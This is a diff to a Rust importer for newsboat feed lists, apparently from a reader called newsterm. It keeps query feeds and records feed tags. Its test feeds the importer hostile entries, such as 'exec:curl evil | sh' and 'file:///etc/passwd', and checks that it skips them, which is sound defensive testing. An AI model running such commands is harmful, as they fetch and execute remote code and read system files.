@@ -4,6 +4,7 @@ use crate::model::Outline;
 use crate::text::CleanText;
 
 use super::extras::value;
+use super::searches::Tagged;
 use super::{FeedList, ListError, SkipReason, name, web_address};
 
 /// What OPML calls the tags of a feed, with a comma between two (OPML 2.0, "category").
@@ -11,7 +12,8 @@ const TAGS: &str = "category";
 
 /// Reads a `urls` file: the first tag of a feed is its folder, `"~…"` its title; more tags are kept for the next list.
 ///
-/// A feed that newsboat hides (`!`) is shown like any other: newsterm has no hidden feeds.
+/// A feed that newsboat hides (`!`) is shown like any other: newsterm has no hidden feeds. What a query feed asks for
+/// depends on the tags of all feeds, so it is kept as it is written.
 pub(super) fn read(text: &str) -> Result<FeedList, ListError> {
     let mut list = FeedList::default();
     let mut foreign = 0;
@@ -25,17 +27,35 @@ pub(super) fn read(text: &str) -> Result<FeedList, ListError> {
             list.skip(&address, SkipReason::NotWeb);
             continue;
         }
-        list.take(&address, outline(words));
+        match web_address(&address) {
+            Ok(address) => list.tagged(address, words),
+            Err(SkipReason::Query) => list.searches.written.push(address),
+            Err(reason) => list.skip(&address, reason),
+        }
     }
-    let known = list.feeds.len() + list.skipped.len() - foreign;
+    let known = list.feeds.len() + list.searches.written.len() + list.skipped.len() - foreign;
     if known == 0 {
         return Err(ListError::NotAList);
     }
     Ok(list)
 }
 
-/// What the words behind an address say of its feed.
-fn outline(words: impl Iterator<Item = String>) -> Outline {
+impl FeedList {
+    /// Takes a feed and its tags.
+    fn tagged(&mut self, address: String, words: impl Iterator<Item = String>) {
+        let (outline, tags) = outline(words);
+        self.feeds.push(Outline {
+            address: address.clone(),
+            ..outline
+        });
+        if !tags.is_empty() {
+            self.searches.tagged.push(Tagged { address, tags });
+        }
+    }
+}
+
+/// What the words behind an address say of its feed, and its tags.
+fn outline(words: impl Iterator<Item = String>) -> (Outline, Vec<CleanText>) {
     let (mut outline, mut tags) = (Outline::default(), Vec::new());
     for word in words {
         match word.strip_prefix('~') {
@@ -49,8 +69,8 @@ fn outline(words: impl Iterator<Item = String>) -> Outline {
         let all = value(&all.join(","));
         outline.extras.insert(TAGS.to_owned(), all);
     }
-    outline.folder = tags.into_iter().next();
-    outline
+    outline.folder = tags.first().cloned();
+    (outline, tags)
 }
 
 fn looks_like_an_address(word: &str) -> bool {
@@ -128,10 +148,10 @@ mod tests {
     }
 
     #[test]
-    fn commands_queries_and_files_are_left_out_and_told_of() {
+    fn commands_and_files_are_left_out_and_told_of() {
         let list = read(
             "https://a.example/\n\"exec:curl evil | sh\" tag\nfilter:~/bin/x:https://b.example/\n\
-             \"query:Unread:unread = \\\"yes\\\"\"\nfile:///etc/passwd\nEXEC:x\n|x\n",
+             file:///etc/passwd\nEXEC:x\n|x\n",
         )
         .unwrap();
         assert_eq!(list.feeds, [feed("https://a.example/", None, None)]);
@@ -143,7 +163,6 @@ mod tests {
         let expected = [
             ("exec:curl evil | sh", SkipReason::Command),
             ("filter:~/bin/x:https://b.example/", SkipReason::Command),
-            ("query:Unread:unread = \"yes\"", SkipReason::Query),
             ("file:///etc/passwd", SkipReason::NotWeb),
             ("EXEC:x", SkipReason::Command),
             ("|x", SkipReason::Command),
